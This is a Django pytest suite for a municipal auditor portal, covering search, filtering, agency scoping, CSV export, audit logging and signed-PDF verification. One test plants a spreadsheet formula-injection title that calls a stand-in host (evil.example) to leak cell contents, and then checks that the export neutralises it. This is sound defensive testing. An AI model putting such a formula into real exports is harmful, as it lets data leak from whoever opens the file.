"""The auditor's portal: search decided assessments, download the signed report, verify it, export CSV."""

import io
import re
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from assessments import services
from assessments.demo.synthetic import seed_bulk_assessments
from assessments.models import AssessmentVersion, AuditEvent, MunicipalRole, Report
from assessments.queries import lists as queries
from tests import review_helpers as h
from tests.report_helpers import use_test_seal
from tests.responses import read_csv, table_cells

SEARCH = reverse("assessments:auditor_search")


def rows(response) -> list[str]:
    return table_cells(response, r'<td><a href="/vurderinger/[0-9a-f-]+/behandling/">([^<]+)</a>')


@pytest.fixture
def decided(world):
    """Agency A: approved, rejected, still submitted; agency B: approved."""
    approved = h.approved(world, "Copilot i Word")
    rejected = h.submitted(world, "Ansiktsgjenkjenning", **h.STOP)
    services.assessment_reject(assessment=rejected, user=world.users["reviewer"], reason="Forbudt praksis.")
    h.submitted(world, "Venter fortsatt")
    other = h.approved(world, "Oversetter i etaten")
    other.agency = world.agency_b
    other.save(update_fields=["agency"])
    return {"approved": approved, "rejected": rejected, "other": other}


def test_it_finds_approved_and_rejected_but_not_undecided(world, decided):
    response = world.client("auditor").get(SEARCH)
    assert response.status_code == 200
    assert set(rows(response)) == {"Copilot i Word", "Ansiktsgjenkjenning", "Oversetter i etaten"}


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"q": "copilot"}, {"Copilot i Word"}),
        ({"status": "rejected"}, {"Ansiktsgjenkjenning"}),
        ({"verdict": "stop"}, {"Ansiktsgjenkjenning"}),
        ({"agency": "B"}, {"Oversetter i etaten"}),
        (
            {"date_from": "TODAY", "date_to": "TODAY"},
            {"Copilot i Word", "Ansiktsgjenkjenning", "Oversetter i etaten"},
        ),
        ({"date_to": "LONG_AGO"}, set()),
    ],
    ids=["text", "status", "verdict", "agency", "today", "before"],
)
def test_it_filters(world, decided, params, expected):
    today = timezone.localdate()
    values = {
        "B": world.agency_b.pk,
        "TODAY": today.isoformat(),
        "LONG_AGO": (today - timedelta(days=400)).isoformat(),
    }
    params = {k: values.get(v, v) for k, v in params.items()}
    assert set(rows(world.client("auditor").get(SEARCH, params))) == expected


def test_a_dated_decision_is_found_by_its_date(world, decided):
    AssessmentVersion.objects.filter(assessment=decided["rejected"]).update(
        decided_at=timezone.now() - timedelta(days=30)
    )
    day = (timezone.localdate() - timedelta(days=30)).isoformat()
    assert rows(world.client("auditor").get(SEARCH, {"date_from": day, "date_to": day})) == ["Ansiktsgjenkjenning"]


def test_an_auditor_with_a_scope_sees_only_those_agencies(world, decided):
    MunicipalRole.objects.get(user=world.users["auditor"]).agencies.set([world.agency_b])
    client = world.client("auditor")
    assert rows(client.get(SEARCH)) == ["Oversetter i etaten"]
    exported = read_csv(client.get(reverse("assessments:auditor_export")))
    assert [r["Tittel"] for r in exported] == ["Oversetter i etaten"]


def test_the_csv_export_lists_the_search_and_neutralises_formulas(world, decided):
    evil = h.approved(world, '=HYPERLINK("http://evil.example/?"&A1;"klikk")')
    client = world.client("auditor")
    exported = read_csv(client.get(reverse("assessments:auditor_export"), {"q": "HYPERLINK"}))
    assert len(exported) == 1
    assert exported[0]["Tittel"] == "'" + evil.title
    assert exported[0]["ID"] == str(evil.uuid)
    assert AuditEvent.objects.filter(action="auditor.exported", actor_id=world.users["auditor"].pk).exists()


def test_the_export_logs_only_the_filters_it_knows(world, decided):
    """Made-up parameter names (a NUL byte, thousands of characters) are neither stored nor a 500 on PostgreSQL."""
    client = world.client("auditor")
    query = {"q": "Oversetter", "\x00": "1", "a\x00b": "2", "x" * 3000: "3", "verdict": ""}
    assert client.get(reverse("assessments:auditor_export"), query).status_code == 200
    event = AuditEvent.objects.filter(action="auditor.exported").latest("id")
    assert event.details["filters"] == ["q"]


def test_leaders_cannot_use_the_portal(world, decided):
    assert world.client("leader_a").get(SEARCH).status_code == 403
    assert world.client("leader_a").get(reverse("assessments:auditor_export")).status_code == 403


@pytest.mark.parametrize("size", [30, 400])
def test_it_runs_a_constant_number_of_queries(world, django_assert_max_num_queries, size):
    h.questionnaire()
    seed_bulk_assessments(size)
    client = world.client("auditor")
    with django_assert_max_num_queries(10):  # the title search's check for an exact match is one of them
        response = client.get(SEARCH, {"q": "Syntetisk"})
    assert rows(response)
    # The count the pager shows (taken from the assessments, not the list) is the list's length.
    unfiltered = client.get(SEARCH).content.decode()
    expected = queries.auditor_search(world.users["auditor"]).count()
    shown = re.search(r"\((\d+) treff\)|(\d+) treff", unfiltered)
    assert shown and int(shown.group(1) or shown.group(2)) == expected


def test_it_finds_downloads_and_verifies_the_signed_report(
    world, settings, tmp_path_factory, django_capture_on_commit_callbacks
):
    """The auditor's round: find the approved assessment, download its sealed PDF, verify the file."""
    use_test_seal(settings, tmp_path_factory)
    assessment = h.submitted(world, "Copilot i Word")
    with django_capture_on_commit_callbacks(execute=True):
        services.assessment_approve(assessment=assessment, user=world.users["reviewer"])
    report = Report.objects.get(assessment=assessment, kind=Report.Kind.SIGNED)
    assert report.status == Report.Status.READY, report.error

    client = world.client("auditor")
    page = client.get(SEARCH, {"q": "Copilot"}).content.decode()
    download = reverse("assessments:report_download", args=[assessment.uuid, report.uuid])
    assert download in page
    assert reverse("assessments:report_verify") in page
    # The checksum: a prefix that stays on one line, the whole value in the title and for screen readers.
    assert (
        f'<code class="hash--short" title="{report.sha256}"><span aria-hidden="true">{report.sha256[:12]}…</span>'
        f'<span class="visually-hidden">{report.sha256}</span></code>'
    ) in page
    pdf = client.get(download)
    assert pdf.status_code == 200
    data = b"".join(pdf.streaming_content)
    assert data.startswith(b"%PDF-")
    assert AuditEvent.objects.filter(action="report.downloaded", actor_id=world.users["auditor"].pk).exists()

    verified = client.post(reverse("assessments:report_verify"), {"pdf": io.BytesIO(data)}, format="multipart")
    assert verified.status_code == 200
    assert "Seglet er gyldig, og filen er identisk med en lagret rapport." in verified.content.decode()


@pytest.mark.parametrize("search", ["auditor_search", "register"])
def test_the_lists_walked_by_decision_date_say_it_is_never_null(world, search):
    """NULLs come first in a descending index: without `decided_at IS NOT NULL` a walk of it newest first
    starts at the undecided versions."""
    qs = queries.auditor_search(world.users["auditor"]) if search == "auditor_search" else queries.register()
    assert '"decided_at" IS NOT NULL' in str(qs.query)


@pytest.mark.parametrize(
    "params",
    [{"date_from": "2026-02-02", "date_to": "2026-01-01"}, {"q": "Copilot\x00"}],
    ids=["to-date-first", "nul"],
)
def test_an_invalid_filter_lists_nothing_and_exports_nothing(world, decided, params):
    """The field errors show, and the list is not the whole list as if unfiltered (views/filters.py)."""
    client = world.client("auditor")
    response = client.get(SEARCH, params)
    body = response.content.decode()
    assert "error-text" in body and "Søket ble ikke brukt: rett feltene over." in body
    assert rows(response) == []
    assert reverse("assessments:auditor_export") not in body
    for name in ("auditor_export", "auditor_export_xlsx", "auditor_export_json"):
        refused = client.get(reverse(f"assessments:{name}"), params)
        assert refused.status_code == 400, name
        assert "Ingenting ble lastet ned" in refused.content.decode()
    assert not AuditEvent.objects.filter(action="auditor.exported").exists()
